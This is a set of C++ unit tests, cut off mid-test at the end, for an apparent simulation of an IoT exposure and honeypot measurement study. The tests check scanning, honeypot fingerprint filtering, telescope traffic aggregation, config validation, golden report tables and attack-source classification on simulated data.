StudyConfig tiny_config() {
  StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 8'192;
  config.attack_scale = 1.0 / 128;
  config.attack_duration = sim::days(6);
  return config;
}

// One shared study for the read-only assertions (phases are expensive).
class StudyTest : public ::testing::Test {
 protected:
  static Study& study() {
    static Study* instance = [] {
      auto* s = new Study(tiny_config());
      s->run_all();
      return s;
    }();
    return *instance;
  }
};

TEST_F(StudyTest, ScanRecoversEveryPlantedMisconfiguration) {
  // Recall: every misconfigured device the population planted must be in
  // the (filtered) findings, and nothing else.
  std::set<std::uint32_t> planted;
  const auto& population = study().population();
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (population.misconfigured_at(i)) {
      planted.insert(population.address_at(i).value());
    }
  }
  std::set<std::uint32_t> found;
  for (const auto& finding : study().findings()) {
    found.insert(finding.host.value());
  }
  EXPECT_EQ(found, planted);
}

TEST_F(StudyTest, ScanFindsAllExposedHostsPerProtocol) {
  for (const auto protocol : proto::scanned_protocols()) {
    std::uint64_t expected = study().population().count_for(protocol);
    if (protocol == proto::Protocol::kTelnet) {
      // Wild honeypots answer on the Telnet port and are found too —
      // that's the poisoning the fingerprint filter exists for.
      expected += study().wild_honeypot_count();
    }
    EXPECT_EQ(study().scan_db().unique_hosts(protocol), expected)
        << proto::protocol_name(protocol);
  }
}

TEST_F(StudyTest, FingerprintingFindsAllWildHoneypots) {
  std::uint64_t expected = 0;
  for (const auto& row : devices::paper::table6()) {
    expected += study().scaled_population(row.instances);
  }
  EXPECT_EQ(study().fingerprints().honeypot_hosts.size(), expected);
  // Per-type detection: each signature detected at least once.
  for (const auto& row : devices::paper::table6()) {
    EXPECT_GE(
        study().fingerprints().detections.count(std::string(row.honeypot)),
        1u)
        << row.honeypot;
  }
}

TEST_F(StudyTest, FilteringRemovesExactlyTheHoneypotPoisoning) {
  const auto poisoned = study().unfiltered_findings().size();
  const auto clean = study().findings().size();
  EXPECT_GT(poisoned, clean);  // honeypots did poison the raw results
  // Only honeypot hosts were removed.
  for (const auto& finding : study().unfiltered_findings()) {
    const bool is_honeypot =
        study().fingerprints().honeypot_hosts.count(finding.host.value()) != 0;
    bool in_clean = false;
    for (const auto& kept : study().findings()) {
      if (kept.host == finding.host) in_clean = true;
    }
    EXPECT_EQ(in_clean, !is_honeypot);
  }
}

TEST_F(StudyTest, DatasetsAgreeWithScanWhereTheyOverlap) {
  ASSERT_TRUE(study().sonar());
  ASSERT_TRUE(study().shodan());
  // Every Sonar-listed host must be in our scan results too (the scan has
  // full coverage of the simulated Internet).
  std::set<std::uint32_t> ours;
  for (const auto& record : study().scan_db().records()) {
    ours.insert(record.host.value());
  }
  for (const auto& entry : study().sonar()->entries()) {
    EXPECT_EQ(ours.count(entry.host.value()), 1u);
  }
}

TEST_F(StudyTest, AttackMonthProducesEventsOnEveryHoneypot) {
  const auto by_honeypot = study().attack_log().count_by_honeypot();
  for (const char* name :
       {"HosTaGe", "U-Pot", "Conpot", "ThingPot", "Cowrie", "Dionaea"}) {
    EXPECT_GT(by_honeypot.count(name), 0u) << name;
  }
}

TEST_F(StudyTest, TelescopeSawTrafficOnAllSixProtocols) {
  for (const auto protocol : proto::scanned_protocols()) {
    EXPECT_GT(study().scope().packets_for(protocol), 0u)
        << proto::protocol_name(protocol);
  }
  // Telnet dominates (Table 8's headline shape).
  for (const auto protocol : proto::scanned_protocols()) {
    if (protocol == proto::Protocol::kTelnet) continue;
    EXPECT_GT(study().scope().packets_for(proto::Protocol::kTelnet),
              study().scope().packets_for(protocol));
  }
}

TEST_F(StudyTest, CorrelationFindsInfectedDevices) {
  // Every correlated address is a planted infected device or at least a
  // misconfigured one that attacked.
  std::set<std::uint32_t> misconfigured;
  const auto& population = study().population();
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (population.misconfigured_at(i)) {
      misconfigured.insert(population.address_at(i).value());
    }
  }
  const auto check = [&](const std::set<std::uint32_t>& bucket) {
    for (const auto host : bucket) {
      EXPECT_EQ(misconfigured.count(host), 1u);
    }
  };
  check(study().infected().both);
  check(study().infected().honeypot_only);
  check(study().infected().telescope_only);
  EXPECT_GT(study().infected().total(), 0u);
}

TEST_F(StudyTest, InfectedDevicesAreVirusTotalFlagged) {
  for (const auto addr : study().fleet().infected_device_addresses()) {
    EXPECT_TRUE(study().virustotal().is_malicious(addr));
  }
}

TEST_F(StudyTest, ListingsHappenedAndAreFromPublicServices) {
  ASSERT_FALSE(study().fleet().listings().empty());
  for (const auto& listing : study().fleet().listings()) {
    bool is_public = false;
    for (const auto& spec : attackers::scan_service_specs()) {
      if (spec.name == listing.service) is_public = spec.listed_publicly;
    }
    EXPECT_TRUE(is_public) << listing.service;
  }
}

TEST_F(StudyTest, ReportsRenderNonEmpty) {
  EXPECT_NE(report_table4_exposed(study()).find("Table 4"),
            std::string::npos);
  EXPECT_NE(report_table5_misconfigured(study()).find("Total"),
            std::string::npos);
  EXPECT_NE(report_table6_honeypots(study()).find("Anglerfish"),
            std::string::npos);
  EXPECT_NE(report_table7_attacks(study()).find("HosTaGe"),
            std::string::npos);
  EXPECT_NE(report_table8_telescope(study()).find("Telnet"),
            std::string::npos);
  EXPECT_NE(report_table10_countries(study()).find("USA"), std::string::npos);
  EXPECT_NE(report_fig2_device_types(study()).find("Camera"),
            std::string::npos);
  EXPECT_FALSE(report_fig3_scanning_services(study()).empty());
  EXPECT_FALSE(report_fig4_attack_types(study()).empty());
  EXPECT_NE(report_fig5_greynoise(study()).find("GreyNoise"),
            std::string::npos);
  EXPECT_FALSE(report_fig6_virustotal(study()).empty());
  EXPECT_FALSE(report_fig7_trends(study()).empty());
  EXPECT_NE(report_fig8_daily(study()).find("day00"), std::string::npos);
  EXPECT_NE(report_fig9_multistage(study()).find("Stage 1"),
            std::string::npos);
  EXPECT_NE(report_correlation(study()).find("11,118"), std::string::npos);
  EXPECT_FALSE(report_table12_credentials(study()).empty());
}

TEST_F(StudyTest, ScanDatesFollowAppendixTable9Offsets) {
  const auto& dates = study().scan_dates();
  ASSERT_EQ(dates.size(), 6u);
  // CoAP first, XMPP last, spread over roughly four days.
  EXPECT_LE(dates.at(proto::Protocol::kCoap),
            dates.at(proto::Protocol::kTelnet));
  EXPECT_LE(dates.at(proto::Protocol::kTelnet),
            dates.at(proto::Protocol::kMqtt));
  EXPECT_LE(dates.at(proto::Protocol::kMqtt),
            dates.at(proto::Protocol::kXmpp));
  EXPECT_GE(dates.at(proto::Protocol::kXmpp) -
                dates.at(proto::Protocol::kCoap),
            sim::days(4));
}

TEST(StudyPhases, ScanOnlyStudyNeedsNoAttackPhase) {
  auto config = tiny_config();
  config.population_scale = 1.0 / 16'384;
  Study study(config);
  study.setup_internet();
  study.run_scan();
  EXPECT_GT(study.scan_db().size(), 0u);
  EXPECT_EQ(study.attack_log().size(), 0u);
}

TEST(StudyPhases, HoneypotFilteringCanBeDisabled) {
  auto config = tiny_config();
  config.population_scale = 1.0 / 16'384;
  config.filter_honeypots = false;
  Study study(config);
  study.setup_internet();
  study.run_scan();
  EXPECT_EQ(study.findings().size(), study.unfiltered_findings().size());
}

// ---------------------------------------------------------- config bounds
// StudyConfig::validate / clamped: the bounds the scenario parser surfaces
// as typed out-of-range errors, and the release-mode substitution the Study
// constructor performs (assert in debug — same idiom as
// Fabric::set_loss_rate).

TEST(StudyConfigValidate, DefaultAndTinyConfigsAreValid) {
  EXPECT_FALSE(StudyConfig{}.validate().has_value());
  EXPECT_FALSE(tiny_config().validate().has_value());
}

TEST(StudyConfigValidate, RejectsEachKnobOutOfRange) {
  const struct {
    void (*corrupt)(StudyConfig&);
    std::string_view expected;
  } cases[] = {
      {[](StudyConfig& c) { c.population_scale = 0.0; },
       "population_scale must be in (0, 16]"},
      {[](StudyConfig& c) { c.population_scale = -2.0; },
       "population_scale must be in (0, 16]"},
      {[](StudyConfig& c) {
         c.population_scale = std::numeric_limits<double>::quiet_NaN();
       },
       "population_scale must be in (0, 16]"},
      {[](StudyConfig& c) { c.attack_scale = 2e6; },
       "attack_scale must be in (0, 1e6]"},
      {[](StudyConfig& c) { c.attack_duration = 0; },
       "attack_duration must be between 1 hour and 366 days"},
      {[](StudyConfig& c) { c.attack_duration = sim::days(400); },
       "attack_duration must be between 1 hour and 366 days"},
      {[](StudyConfig& c) { c.scan_batch = 0; },
       "scan_batch must be in [1, 1000000]"},
      {[](StudyConfig& c) { c.scan_threads = 2'000; },
       "scan_threads must be at most 1024 (0 = hardware)"},
      {[](StudyConfig& c) { c.scan_attempts = 0; },
       "scan_attempts must be in [1, 16]"},
      {[](StudyConfig& c) { c.session_connect_attempts = -1; },
       "session_connect_attempts must be in [1, 16]"},
      {[](StudyConfig& c) { c.listing_boost = 0.0; },
       "listing_boost must be in (0, 100]"},
      {[](StudyConfig& c) {
         c.telescope_range = util::Cidr(util::Ipv4Addr(44, 0, 0, 0), 30);
       },
       "telescope_range must be /24 or wider"},
      {[](StudyConfig& c) {
         // 23/8 is inside the populated /8 pool; the default 44/8 is not.
         c.telescope_range = util::Cidr(util::Ipv4Addr(23, 0, 0, 0), 8);
       },
       "telescope_range overlaps the population address pool"},
      {[](StudyConfig& c) { c.telescope_rate_scale = 0.0; },
       "telescope_rate_scale must be in (0, 1]"},
      {[](StudyConfig& c) { c.fault_budget = 1.5; },
       "fault_budget must be in [0, 1]"},
      {[](StudyConfig& c) { c.fault_schedule.uniform_loss = 1.1; },
       "fault rates must be in [0, 1]"},
      {[](StudyConfig& c) {
         c.fault_schedule.burst.enabled = true;
         c.fault_schedule.burst.p_enter = -0.1;
       },
       "burst probabilities must be in [0, 1]"},
      {[](StudyConfig& c) {
         net::FaultWindow window;
         window.start = sim::days(2);
         window.end = sim::days(1);
         c.fault_schedule.windows.push_back(window);
       },
       "fault window must not end before it starts"},
  };
  for (const auto& item : cases) {
    StudyConfig config;
    item.corrupt(config);
    const auto violation = config.validate();
    ASSERT_TRUE(violation.has_value()) << item.expected;
    EXPECT_EQ(*violation, item.expected);
  }
}

TEST(StudyConfigValidate, ClampedRepairsEveryViolation) {
  // Whatever validate rejects, clamped must fix — the release-mode Study
  // constructor depends on this round trip terminating at a valid config.
  StudyConfig hostile;
  hostile.population_scale = -5.0;
  hostile.attack_scale = 1e12;
  hostile.attack_duration = 0;
  hostile.scan_batch = 0;
  hostile.scan_threads = 1u << 20;
  hostile.scan_attempts = 999;
  hostile.session_connect_attempts = -7;
  hostile.listing_boost = std::numeric_limits<double>::quiet_NaN();
  hostile.telescope_range = util::Cidr(util::Ipv4Addr(23, 0, 0, 0), 8);
  hostile.telescope_rate_scale = 7.0;
  hostile.fault_budget = -1.0;
  hostile.fault_schedule.uniform_loss = 42.0;
  ASSERT_TRUE(hostile.validate().has_value());
  const StudyConfig repaired = hostile.clamped();
  EXPECT_FALSE(repaired.validate().has_value())
      << *repaired.validate();
  // Clamping moves to the nearest bound, not to defaults.
  EXPECT_GT(repaired.population_scale, 0.0);
  EXPECT_EQ(repaired.scan_batch, 1u);
  EXPECT_EQ(repaired.scan_attempts, 16u);
  EXPECT_EQ(repaired.session_connect_attempts, 1);
}

TEST(StudyConfigValidate, StudyConstructorSubstitutesOrAsserts) {
  auto bad = tiny_config();
  bad.scan_batch = 0;
#ifdef NDEBUG
  // Release: the constructor substitutes clamped() — the study must end up
  // with a runnable config, not the hostile one.
  Study study(bad);
  EXPECT_FALSE(study.config().validate().has_value());
  EXPECT_EQ(study.config().scan_batch, 1u);
#else
  EXPECT_DEBUG_DEATH({ Study study(bad); }, "failed validation");
#endif
}

TEST(StudyPhases, DeterministicAcrossRuns) {
  auto config = tiny_config();
  config.population_scale = 1.0 / 16'384;
  Study a(config), b(config);
  a.setup_internet();
  a.run_scan();
  b.setup_internet();
  b.run_scan();
  EXPECT_EQ(a.scan_db().size(), b.scan_db().size());
  EXPECT_EQ(a.findings().size(), b.findings().size());
}

}  // namespace
}  // namespace ofh::core
