// Telescope tests: FlowTuple aggregation, protocol/port mapping, unique
// sources, spoofed/masscan annotations and darknet behaviour on the fabric.
#include <gtest/gtest.h>

#include <algorithm>
#include <tuple>

#include "telescope/telescope.h"
#include "test_helpers.h"

namespace ofh::telescope {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

net::Packet syn(Ipv4Addr src, Ipv4Addr dst, std::uint16_t dst_port,
                std::uint16_t src_port = 40'000) {
  net::Packet packet;
  packet.src = src;
  packet.dst = dst;
  packet.src_port = src_port;
  packet.dst_port = dst_port;
  packet.transport = net::Transport::kTcp;
  packet.tcp_flags = net::TcpFlags::kSyn;
  return packet;
}

TEST(ProtocolForPort, MapsIotPorts) {
  EXPECT_EQ(protocol_for_port(23), proto::Protocol::kTelnet);
  EXPECT_EQ(protocol_for_port(2323), proto::Protocol::kTelnet);
  EXPECT_EQ(protocol_for_port(1883), proto::Protocol::kMqtt);
  EXPECT_EQ(protocol_for_port(5683), proto::Protocol::kCoap);
  EXPECT_EQ(protocol_for_port(5672), proto::Protocol::kAmqp);
  EXPECT_EQ(protocol_for_port(5222), proto::Protocol::kXmpp);
  EXPECT_EQ(protocol_for_port(1900), proto::Protocol::kUpnp);
  EXPECT_FALSE(protocol_for_port(443));
  EXPECT_FALSE(protocol_for_port(0));
}

TEST(Telescope, AggregatesRepeatedPacketsIntoOneTuplePerMinute) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  const auto packet = syn(Ipv4Addr(1, 2, 3, 4), Ipv4Addr(44, 0, 0, 1), 23);
  telescope.observe(packet, sim::seconds(10));
  telescope.observe(packet, sim::seconds(20));
  telescope.observe(packet, sim::minutes(2));  // next minute bucket

  const auto tuples = telescope.tuples();
  ASSERT_EQ(tuples.size(), 2u);
  EXPECT_EQ(tuples[0].packet_count, 2u);
  EXPECT_EQ(tuples[1].packet_count, 1u);
  EXPECT_EQ(telescope.total_packets(), 3u);
  EXPECT_EQ(tuples[0].byte_count, 2 * packet.wire_size());
}

// Regression test for the ofh-lint burn-down's ordering fix: the tuple
// store is an unordered_map (O(1) per-packet hot path), so the export must
// sort by key or Table 8 would depend on hash-table iteration order. Feed
// the same flows in opposite orders and demand byte-identical sequences —
// the same contract tests/parallel_test proves end-to-end for the full
// study's reports at scan_threads 1/2/8/hardware.
TEST(Telescope, AggregateCountsPastFourBillionDoNotWrap) {
  // Flow-level aggregation plants more packets in one call than a 32-bit
  // counter holds (paper scale: 2.7e9/day); every downstream total must
  // carry the full 64-bit count.
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  const auto packet = syn(Ipv4Addr(1, 2, 3, 4), Ipv4Addr(44, 0, 0, 1), 23);
  const std::uint64_t kHuge = (std::uint64_t{1} << 32) + 7;
  telescope.observe_aggregate(packet, sim::seconds(10), kHuge);
  telescope.observe(packet, sim::seconds(20));  // equivalent to count 1

  const auto tuples = telescope.tuples();
  ASSERT_EQ(tuples.size(), 1u);
  EXPECT_EQ(tuples.front().packet_count, kHuge + 1);
  EXPECT_EQ(tuples.front().byte_count, (kHuge + 1) * 40);  // bare SYNs
  EXPECT_EQ(telescope.total_packets(), kHuge + 1);
  EXPECT_EQ(telescope.packets_for(proto::Protocol::kTelnet), kHuge + 1);
  EXPECT_EQ(telescope.unique_sources_for(proto::Protocol::kTelnet), 1u);
}

TEST(Telescope, TupleExportIsInsertionOrderIndependent) {
  const auto flows = [](Telescope& telescope, bool reversed) {
    std::vector<net::Packet> packets;
    for (std::uint32_t src = 1; src <= 64; ++src) {
      for (const std::uint16_t port : {23, 1883, 1900, 443}) {
        packets.push_back(syn(Ipv4Addr(src * 7919), Ipv4Addr(44 << 24 | src),
                              port, static_cast<std::uint16_t>(1000 + src)));
      }
    }
    if (reversed) std::reverse(packets.begin(), packets.end());
    for (const auto& packet : packets) {
      // The timestamp is a function of the packet, not of arrival order, so
      // both feeds describe the same flows in the same minute buckets.
      telescope.observe(packet, sim::minutes(packet.src.value() % 3));
    }
    return telescope.tuples();
  };

  Telescope forward(*util::Cidr::parse("44.0.0.0/8"));
  Telescope backward(*util::Cidr::parse("44.0.0.0/8"));
  const auto lhs = flows(forward, false);
  const auto rhs = flows(backward, true);

  ASSERT_EQ(lhs.size(), rhs.size());
  ASSERT_EQ(lhs.size(), 64u * 4u);
  for (std::size_t i = 0; i < lhs.size(); ++i) {
    EXPECT_EQ(lhs[i].src, rhs[i].src) << "tuple " << i;
    EXPECT_EQ(lhs[i].dst, rhs[i].dst) << "tuple " << i;
    EXPECT_EQ(lhs[i].src_port, rhs[i].src_port) << "tuple " << i;
    EXPECT_EQ(lhs[i].dst_port, rhs[i].dst_port) << "tuple " << i;
    EXPECT_EQ(lhs[i].minute, rhs[i].minute) << "tuple " << i;
    EXPECT_EQ(lhs[i].packet_count, rhs[i].packet_count) << "tuple " << i;
    EXPECT_EQ(lhs[i].byte_count, rhs[i].byte_count) << "tuple " << i;
  }
  // And the sequence is genuinely sorted by the deterministic key.
  for (std::size_t i = 1; i < lhs.size(); ++i) {
    const bool ordered =
        std::tie(lhs[i - 1].minute, lhs[i - 1].src, lhs[i - 1].dst,
                 lhs[i - 1].src_port, lhs[i - 1].dst_port) <
        std::tie(lhs[i].minute, lhs[i].src, lhs[i].dst, lhs[i].src_port,
                 lhs[i].dst_port);
    EXPECT_TRUE(ordered) << "export not key-sorted at index " << i;
  }
}

TEST(Telescope, DistinguishesFlowsByPorts) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  telescope.observe(syn(Ipv4Addr(1), Ipv4Addr(44 << 24 | 1), 23, 1000), 0);
  telescope.observe(syn(Ipv4Addr(1), Ipv4Addr(44 << 24 | 1), 23, 1001), 0);
  EXPECT_EQ(telescope.tuples().size(), 2u);
}

TEST(Telescope, TracksProtocolsAndUniqueSources) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  telescope.observe(syn(Ipv4Addr(1), Ipv4Addr(44 << 24 | 1), 23), 0);
  telescope.observe(syn(Ipv4Addr(1), Ipv4Addr(44 << 24 | 2), 23), 0);
  telescope.observe(syn(Ipv4Addr(2), Ipv4Addr(44 << 24 | 3), 23), 0);
  telescope.observe(syn(Ipv4Addr(3), Ipv4Addr(44 << 24 | 4), 1883), 0);

  EXPECT_EQ(telescope.packets_for(proto::Protocol::kTelnet), 3u);
  EXPECT_EQ(telescope.unique_sources_for(proto::Protocol::kTelnet), 2u);
  EXPECT_EQ(telescope.packets_for(proto::Protocol::kMqtt), 1u);
  EXPECT_EQ(telescope.all_sources().size(), 3u);
  EXPECT_EQ(telescope.unique_sources_for(proto::Protocol::kCoap), 0u);
}

TEST(Telescope, DailyAverage) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  for (int i = 0; i < 60; ++i) {
    telescope.observe(
        syn(Ipv4Addr(static_cast<std::uint32_t>(i)), Ipv4Addr(44 << 24 | 1), 23),
        0);
  }
  EXPECT_DOUBLE_EQ(telescope.daily_average_for(proto::Protocol::kTelnet, 30),
                   2.0);
  EXPECT_DOUBLE_EQ(telescope.daily_average_for(proto::Protocol::kTelnet, 0),
                   0.0);
}

TEST(Telescope, RecordsSpoofedAndMasscanAnnotations) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  auto packet = syn(Ipv4Addr(9), Ipv4Addr(44 << 24 | 9), 23);
  packet.spoofed_src = true;
  packet.from_masscan = true;
  telescope.observe(packet, 0);
  EXPECT_EQ(telescope.spoofed_packets(), 1u);
  EXPECT_EQ(telescope.masscan_packets(), 1u);
  const auto tuples = telescope.tuples();
  ASSERT_EQ(tuples.size(), 1u);
  EXPECT_TRUE(tuples[0].is_spoofed);
  EXPECT_TRUE(tuples[0].is_masscan);
}

class TelescopeFabricTest : public SimTest {};

TEST_F(TelescopeFabricTest, CapturesDarknetTrafficViaFabric) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  telescope.attach(fabric_);
  PlainHost scanner(Ipv4Addr(7, 7, 7, 7));
  scanner.attach(fabric_);

  for (int i = 0; i < 10; ++i) {
    net::Packet packet = syn(scanner.address(),
                             Ipv4Addr(44, 1, 2, static_cast<std::uint8_t>(i)),
                             23);
    fabric_.send(std::move(packet));
  }
  run();
  EXPECT_EQ(telescope.total_packets(), 10u);
  EXPECT_EQ(telescope.unique_sources_for(proto::Protocol::kTelnet), 1u);
}

TEST_F(TelescopeFabricTest, NonDarknetTrafficIsNotCaptured) {
  Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  telescope.attach(fabric_);
  PlainHost a(Ipv4Addr(7, 7, 7, 7)), b(Ipv4Addr(8, 8, 8, 8));
  a.attach(fabric_);
  b.attach(fabric_);
  a.udp().send(b.address(), 53, util::to_bytes("query"));
  run();
  EXPECT_EQ(telescope.total_packets(), 0u);
}

}  // namespace
}  // namespace ofh::telescope
