// Golden-file snapshots of the paper's headline tables at the default seed.
// Any change to the scan/classify/attack pipeline that shifts a rendered
// number shows up here as a line-level diff, not a silent drift. Regenerate
// intentionally with scripts/update_goldens.sh (or OFH_UPDATE_GOLDENS=1).
#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>

#include "core/reports.h"
#include "core/study.h"

#ifndef OFH_GOLDEN_DIR
#error "golden_report_test needs -DOFH_GOLDEN_DIR=<path to tests/goldens>"
#endif

namespace ofh::core {
namespace {

// The tiny default-seed study every golden is rendered from: big enough
// that all six protocols and every attack class appear, small enough to run
// in seconds. Changing any knob here is a golden-regeneration event.
Study& golden_study() {
  static Study* instance = [] {
    StudyConfig config;  // seed 42, the repo-wide default
    config.population_scale = 1.0 / 8'192;
    config.attack_scale = 1.0 / 128;
    config.attack_duration = sim::days(6);
    auto* study = new Study(config);
    study->run_all();
    return study;
  }();
  return *instance;
}

std::string golden_path(const std::string& name) {
  return std::string(OFH_GOLDEN_DIR) + "/" + name + ".txt";
}

bool update_mode() {
  const char* env = std::getenv("OFH_UPDATE_GOLDENS");
  return env != nullptr && *env != '\0' && std::string(env) != "0";
}

// Compares line by line so a failure names the first diverging line of the
// table instead of dumping two full blobs.
void expect_matches_golden(const std::string& name,
                           const std::string& actual) {
  const std::string path = golden_path(name);
  if (update_mode()) {
    std::ofstream out(path, std::ios::trunc);
    ASSERT_TRUE(out.good()) << "cannot write golden " << path;
    out << actual;
    GTEST_SKIP() << "golden " << name << " rewritten";
  }

  std::ifstream in(path);
  ASSERT_TRUE(in.good())
      << "missing golden " << path
      << " — run scripts/update_goldens.sh to create it";
  std::stringstream buffer;
  buffer << in.rdbuf();
  const std::string expected = buffer.str();
  if (expected == actual) return;

  std::istringstream expected_lines(expected), actual_lines(actual);
  std::string expected_line, actual_line;
  std::size_t line = 0;
  while (true) {
    ++line;
    const bool more_expected =
        static_cast<bool>(std::getline(expected_lines, expected_line));
    const bool more_actual =
        static_cast<bool>(std::getline(actual_lines, actual_line));
    if (!more_expected && !more_actual) break;
    if (!more_expected) expected_line = "<end of golden>";
    if (!more_actual) actual_line = "<end of output>";
    if (expected_line != actual_line || more_expected != more_actual) {
      ADD_FAILURE() << name << ".txt first differs at line " << line << ":\n"
                    << "  golden: " << expected_line << "\n"
                    << "  actual: " << actual_line << "\n"
                    << "If the change is intentional, regenerate with "
                       "scripts/update_goldens.sh and review the diff.";
      return;
    }
  }
}

TEST(GoldenReports, Table4Exposed) {
  expect_matches_golden("table4", report_table4_exposed(golden_study()));
}

TEST(GoldenReports, Table5Misconfigured) {
  expect_matches_golden("table5",
                        report_table5_misconfigured(golden_study()));
}

TEST(GoldenReports, Table6Honeypots) {
  expect_matches_golden("table6", report_table6_honeypots(golden_study()));
}

TEST(GoldenReports, Table7Attacks) {
  expect_matches_golden("table7", report_table7_attacks(golden_study()));
}

TEST(GoldenReports, Table8Telescope) {
  expect_matches_golden("table8", report_table8_telescope(golden_study()));
}

TEST(GoldenReports, Table10Countries) {
  expect_matches_golden("table10", report_table10_countries(golden_study()));
}

}  // namespace
}  // namespace ofh::core
