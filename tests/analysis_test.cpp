// Analysis-layer tests: source classification, multistage detection and the
// §5.3 correlation machinery, on hand-crafted inputs with known answers.
#include <gtest/gtest.h>

#include "core/analysis.h"

namespace ofh::core {
namespace {

using honeynet::AttackEvent;
using honeynet::AttackType;
using util::Ipv4Addr;

const std::vector<std::string> kDomains = {"shodan.io", "censys-scanner.com"};

AttackEvent event_of(std::uint32_t src, const char* honeypot,
                     proto::Protocol protocol, AttackType type,
                     sim::Time when = 0) {
  return AttackEvent{when, Ipv4Addr(src), honeypot, protocol, type, ""};
}

TEST(ClassifySource, MatchesRdnsDomainSuffix) {
  intel::ReverseDns rdns;
  rdns.add(Ipv4Addr(1), "scan-3.shodan.io");
  rdns.add(Ipv4Addr(2), "host.attacker.example");
  EXPECT_EQ(classify_source(Ipv4Addr(1), rdns, kDomains),
            SourceClass::kScanningService);
  EXPECT_EQ(classify_source(Ipv4Addr(2), rdns, kDomains),
            SourceClass::kUnknown);
  EXPECT_EQ(classify_source(Ipv4Addr(3), rdns, kDomains),
            SourceClass::kUnknown);  // no PTR record
}

TEST(ClassifySource, SuffixMustBeWholeLabelChain) {
  intel::ReverseDns rdns;
  rdns.add(Ipv4Addr(1), "notshodan.io.evil.example");
  EXPECT_EQ(classify_source(Ipv4Addr(1), rdns, kDomains),
            SourceClass::kUnknown);
}

TEST(HoneypotSources, ClassifiesPerSourceBehaviour) {
  intel::ReverseDns rdns;
  rdns.add(Ipv4Addr(10), "scan-1.censys-scanner.com");
  honeynet::EventLog log;
  // Scanning service probing.
  log.record(event_of(10, "HosTaGe", proto::Protocol::kTelnet,
                      AttackType::kScan));
  // Malicious actor: scan then brute force.
  log.record(event_of(20, "HosTaGe", proto::Protocol::kTelnet,
                      AttackType::kScan));
  log.record(event_of(20, "HosTaGe", proto::Protocol::kTelnet,
                      AttackType::kBruteForce));
  // Unknown: one-time scan only.
  log.record(event_of(30, "HosTaGe", proto::Protocol::kMqtt,
                      AttackType::kScan));

  const auto breakdowns = classify_honeypot_sources(log, rdns, kDomains);
  const auto& hostage = breakdowns.at("HosTaGe");
  EXPECT_EQ(hostage.scanning_service, 1u);
  EXPECT_EQ(hostage.malicious, 1u);
  EXPECT_EQ(hostage.unknown, 1u);
}

TEST(HoneypotSources, SourceCountedPerHoneypotItTouched) {
  intel::ReverseDns rdns;
  honeynet::EventLog log;
  log.record(event_of(40, "Cowrie", proto::Protocol::kSsh,
                      AttackType::kBruteForce));
  log.record(event_of(40, "Dionaea", proto::Protocol::kSmb,
                      AttackType::kExploit));
  const auto breakdowns = classify_honeypot_sources(log, rdns, kDomains);
  EXPECT_EQ(breakdowns.at("Cowrie").malicious, 1u);
  EXPECT_EQ(breakdowns.at("Dionaea").malicious, 1u);
}

TEST(Multistage, DetectsOrderedProtocolChains) {
  intel::ReverseDns rdns;
  honeynet::EventLog log;
  // Source 50: Telnet day 1 -> SMB day 2 -> S7 day 3.
  log.record(event_of(50, "Cowrie", proto::Protocol::kTelnet,
                      AttackType::kBruteForce, sim::days(1)));
  log.record(event_of(50, "Dionaea", proto::Protocol::kSmb,
                      AttackType::kExploit, sim::days(2)));
  log.record(event_of(50, "Conpot", proto::Protocol::kS7, AttackType::kDos,
                      sim::days(3)));
  // Source 51: single protocol — not multistage.
  log.record(event_of(51, "Cowrie", proto::Protocol::kTelnet,
                      AttackType::kScan, sim::days(1)));

  const auto chains = detect_multistage(log, rdns, kDomains);
  ASSERT_EQ(chains.size(), 1u);
  EXPECT_EQ(chains[0].source.value(), 50u);
  ASSERT_EQ(chains[0].stages.size(), 3u);
  EXPECT_EQ(chains[0].stages[0], proto::Protocol::kTelnet);
  EXPECT_EQ(chains[0].stages[1], proto::Protocol::kSmb);
  EXPECT_EQ(chains[0].stages[2], proto::Protocol::kS7);
}

TEST(Multistage, ScanningServicesAreExcluded) {
  intel::ReverseDns rdns;
  rdns.add(Ipv4Addr(60), "scan-9.shodan.io");
  honeynet::EventLog log;
  // A scanning service touches many protocols — not a multistage attack.
  for (const auto protocol : proto::scanned_protocols()) {
    log.record(event_of(60, "HosTaGe", protocol, AttackType::kScan));
  }
  EXPECT_TRUE(detect_multistage(log, rdns, kDomains).empty());
}

TEST(Multistage, StageHistogram) {
  std::vector<MultistageChain> chains;
  chains.push_back({Ipv4Addr(1),
                    {proto::Protocol::kTelnet, proto::Protocol::kSmb}});
  chains.push_back({Ipv4Addr(2),
                    {proto::Protocol::kSsh, proto::Protocol::kSmb,
                     proto::Protocol::kS7}});
  const auto stages = multistage_stage_histogram(chains);
  ASSERT_EQ(stages.size(), 3u);
  EXPECT_EQ(stages[0].count("Telnet"), 1u);
  EXPECT_EQ(stages[0].count("SSH"), 1u);
  EXPECT_EQ(stages[1].count("SMB"), 2u);
  EXPECT_EQ(stages[2].count("S7"), 1u);
}

TEST(Correlation, SplitsThreeWays) {
  std::vector<classify::MisconfigFinding> findings = {
      {Ipv4Addr(100), proto::Protocol::kTelnet,
       devices::Misconfig::kTelnetNoAuth},  // attacks both
      {Ipv4Addr(101), proto::Protocol::kMqtt,
       devices::Misconfig::kMqttNoAuth},  // honeypot only
      {Ipv4Addr(102), proto::Protocol::kCoap,
       devices::Misconfig::kCoapReflector},  // telescope only
      {Ipv4Addr(103), proto::Protocol::kUpnp,
       devices::Misconfig::kUpnpReflector},  // never attacks
  };
  honeynet::EventLog log;
  log.record(event_of(100, "Cowrie", proto::Protocol::kTelnet,
                      AttackType::kBruteForce));
  log.record(event_of(101, "HosTaGe", proto::Protocol::kMqtt,
                      AttackType::kPoisoning));

  telescope::Telescope scope(*util::Cidr::parse("44.0.0.0/8"));
  net::Packet packet;
  packet.src = Ipv4Addr(100);
  packet.dst = Ipv4Addr(44, 1, 1, 1);
  packet.dst_port = 23;
